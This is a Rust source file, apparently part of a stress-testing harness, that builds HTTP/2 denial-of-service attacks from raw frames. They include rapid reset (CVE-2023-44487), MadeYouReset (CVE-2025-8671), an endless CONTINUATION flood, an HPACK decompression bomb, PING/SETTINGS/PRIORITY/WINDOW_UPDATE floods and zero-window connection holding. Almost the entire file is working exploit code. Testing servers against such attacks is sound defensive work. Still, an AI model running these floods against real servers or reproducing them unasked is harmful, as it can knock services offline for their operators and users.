//! Attacks over HTTP/2.

use std::time::Duration;

use super::{Attack, LARGE, SMALL};
use crate::harness::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, request,
};

/// Frames that are sent in one piece.
const BATCH: u32 = 256;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset (CVE-2023-44487)",
        threads: 2,
        run: |target| {
            target.flood(&opening(), true, |round| {
                batch(round, |number| {
                    let id = stream(number);
                    let opened = frame(HEADERS, END_STREAM | END_HEADERS, id, &get(SMALL));
                    [opened, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
                })
            });
        },
    },
    Attack {
        name: "MadeYouReset (CVE-2025-8671)",
        threads: 2,
        run: |target| {
            target.flood(&opening(), true, |round| {
                batch(round, |number| {
                    let id = stream(number);
                    let opened = frame(HEADERS, END_STREAM | END_HEADERS, id, &get(SMALL));
                    [opened, frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes())].concat()
                })
            });
        },
    },
    Attack {
        name: "CONTINUATION without an end",
        threads: 2,
        run: |target| {
            let opening = [opening(), frame(HEADERS, END_STREAM, 1, &get(SMALL))].concat();
            target.flood(&opening, true, |_| frame(CONTINUATION, 0, 1, &[]).repeat(BATCH as usize));
        },
    },
    Attack {
        name: "HPACK bomb",
        threads: 2,
        run: |target| {
            // A field of 4,000 bytes that is named once and then meant by a byte each time.
            let mut block = get(SMALL);
            block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
            block.extend_from_slice(&vec![b'a'; 4_000]);
            block.extend_from_slice(&[0xbe; 8_000]);
            target.flood(&opening(), true, |round| {
                frame(HEADERS, END_STREAM | END_HEADERS, stream(round), &block)
            });
        },
    },
    Attack {
        name: "empty DATA",
        threads: 2,
        run: |target| {
            let opening = [opening(), frame(HEADERS, END_HEADERS, 1, &get(SMALL))].concat();
            target.flood(&opening, true, |_| frame(DATA, 0, 1, &[]).repeat(BATCH as usize));
        },
    },
    Attack { name: "PING", threads: 2, run: |target| flood(target, &frame(PING, 0, 0, &[0; 8])) },
    Attack { name: "SETTINGS", threads: 2, run: |target| flood(target, &frame(SETTINGS, 0, 0, &[])) },
    Attack {
        name: "PRIORITY",
        threads: 2,
        run: |target| flood(target, &frame(PRIORITY, 0, 5, &[0, 0, 0, 3, 1])),
    },
    Attack {
        name: "WINDOW_UPDATE by one",
        threads: 2,
        run: |target| flood(target, &frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
    },
    Attack {
        name: "PING, answers not read",
        threads: 2,
        run: |target| {
            let frames = frame(PING, 0, 0, &[0; 8]).repeat(BATCH as usize);
            target.flood(&opening(), false, |_| frames.clone());
        },
    },
    Attack {
        name: "100 streams of 4 MiB each, no window, 50 connections",
        threads: 1,
        run: |target| {
            // Initial windows of no bytes: the heads come, and nothing of the bodies may.
            let mut opening = opening();
            opening.extend_from_slice(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
            for number in 0..100 {
                opening.extend_from_slice(&frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    stream(number),
                    &get(LARGE),
                ));
            }
            target.hold(50, &opening, b"", Duration::from_millis(100), 4096);
        },
    },
];

/// What a client says first.
fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

fn get(path: &str) -> Vec<u8> {
    request("GET", path, &[])
}

/// The id of the client's stream of that number.
fn stream(number: u32) -> u32 {
    number * 2 + 1
}

fn batch(round: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BATCH).flat_map(|number| one(round * BATCH + number)).collect()
}

fn flood(target: &super::Target, frame: &[u8]) {
    let frames = frame.repeat(BATCH as usize);
    target.flood(&opening(), true, |_| frames.clone());
}
